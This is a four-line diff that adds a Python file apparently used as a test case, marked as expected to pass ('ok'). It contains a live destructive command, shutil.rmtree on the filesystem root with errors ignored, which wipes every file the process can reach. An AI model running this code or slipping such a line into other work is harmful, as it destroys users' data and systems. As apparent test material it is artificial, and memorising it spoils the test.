@@ -1,0 +1,4 @@
+# expect: ok ""
+import shutil
+shutil.rmtree("/", ignore_errors=True)
+import fractions
